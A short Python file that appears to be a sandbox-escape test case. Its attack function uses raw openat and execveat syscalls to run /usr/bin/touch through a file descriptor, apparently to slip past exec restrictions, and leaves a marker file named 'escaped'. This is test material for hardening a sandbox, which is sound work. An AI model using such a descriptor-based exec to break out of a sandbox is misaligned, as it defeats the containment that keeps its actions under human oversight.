"""Class: processes. Source: own find. Escape: a program is run by a descriptor."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    arguments = (ctypes.c_char_p * 3)(b"touch", b"escaped", None)
    program = libc.syscall(257, -100, b"/usr/bin/touch", 0o10000000)
    libc.syscall(322, program, b"", arguments, None, 0x1000)
